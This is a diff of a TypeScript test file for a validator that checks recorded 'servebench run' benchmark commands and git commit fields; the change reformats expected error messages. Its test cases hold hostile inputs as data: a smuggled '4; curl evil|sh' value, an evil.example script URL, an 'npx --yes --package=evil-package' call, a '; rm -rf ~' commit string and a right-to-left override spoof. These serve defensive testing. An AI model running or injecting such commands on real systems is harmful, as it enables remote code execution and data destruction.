@@ -39,16 +39,16 @@ describe('the recorded command', () => {
   it('the `npx --yes --package=… -- servebench run` attack is refused with one problem naming the argument and the rule', () => {
     const r = synthetic();
     r.harness.command = ['--yes', '--package=evil-package', '--', 'servebench', 'run', '--engine', 'vllm', '--model', 'synthetic/llama-8b', '--workload', 'chat'];
-    expect(problemsOf(r)).toEqual(['harness.command[0]: the command line starts with "--yes", not servebench [recorded-command]']);
+    expect(problemsOf(r)).toEqual(['harness.command[0]: [recorded-command] the command line starts with "--yes", not servebench']);
   });
 
   it('refuses an unknown flag, a positional, a value of the wrong type, another subcommand', () => {
     const cases: Array<[string[], string]> = [
-      [['servebench', 'run', '--engine', 'vllm', '--yes'], 'harness.command[4]: "--yes" is not an option of servebench run [recorded-command]'],
-      [['servebench', 'run', '--engine', 'vllm', 'https://evil.example/x.sh'], 'harness.command[4]: "https://evil.example/x.sh" is not a flag; servebench run takes no positional arguments [recorded-command]'],
-      [['servebench', 'run', '--max-num-seqs', '4; curl evil|sh'], 'harness.command[3]: --max-num-seqs: "4; curl evil|sh" is not an integer [recorded-command]'],
-      [['servebench', 'run', '--extra-body', '[1]'], 'harness.command[3]: --extra-body: "[1]" is not a JSON object [recorded-command]'],
-      [['servebench', 'compile', '--out', '/tmp/x'], 'harness.command[1]: "compile" is not the command that writes this result (servebench run) [recorded-command]'],
+      [['servebench', 'run', '--engine', 'vllm', '--yes'], 'harness.command[4]: [recorded-command] "--yes" is not an option of servebench run'],
+      [['servebench', 'run', '--engine', 'vllm', 'https://evil.example/x.sh'], 'harness.command[4]: [recorded-command] "https://evil.example/x.sh" is not a flag; servebench run takes no positional arguments'],
+      [['servebench', 'run', '--max-num-seqs', '4; curl evil|sh'], 'harness.command[3]: [recorded-command] --max-num-seqs: "4; curl evil|sh" is not an integer'],
+      [['servebench', 'run', '--extra-body', '[1]'], 'harness.command[3]: [recorded-command] --extra-body: "[1]" is not a JSON object'],
+      [['servebench', 'compile', '--out', '/tmp/x'], 'harness.command[1]: [recorded-command] "compile" is not the command that writes this result (servebench run)'],
     ];
     for (const [command, problem] of cases) {
       const r = synthetic();
@@ -60,7 +60,7 @@ describe('the recorded command', () => {
   it('keeps the hidden-character check (bidi in a value of a known flag)', () => {
     const r = synthetic();
     r.harness.command = ['servebench', 'run', '--engine', 'vllm', '--launcher', 'docker', '--source', r.source ?? 'community', '--model', 'a\u202Egpj.exe'];
-    expect(problemsOf(r)).toEqual(['harness.command[9]: holds the invisible character U+202E: the command would display differently from what is copied']);
+    expect(problemsOf(r)).toEqual(['harness.command[9]: [hidden-character] holds the invisible character U+202E: the command would display differently from what is copied']);
   });
 
   it('every committed real result reads back (their argv has --results-dir and --no-progress)', () => {
@@ -78,7 +78,7 @@ describe('the commit', () => {
     for (const commit of ['main', 'v1.0', 'AEE1BA0AEE1BA0AEE1BA0AEE1BA0AEE1BA0AEE1B', COMMIT.slice(1), `${COMMIT}\u202E`, `${COMMIT}; rm -rf ~`]) {
       const r = synthetic();
       r.harness.git_commit = commit;
-      expect(problemsOf(r), commit).toEqual(['harness.git_commit: a git commit is 40 lower-case hex digits (git rev-parse HEAD), or null when unknown']);
+      expect(problemsOf(r), commit).toEqual(['harness.git_commit: [schema] a git commit is 40 lower-case hex digits (git rev-parse HEAD), or null when unknown']);
     }
   });
 
@@ -89,7 +89,7 @@ describe('the commit', () => {
     expect(problemsOf(failed)).toEqual([]);
     const completed = synthetic();
     completed.harness.git_commit = null;
-    expect(problemsOf(completed)).toEqual(['harness.git_commit: the harness commit is missing']);
+    expect(problemsOf(completed)).toEqual(['harness.git_commit: [provenance] the harness commit is missing']);
   });
 });
 
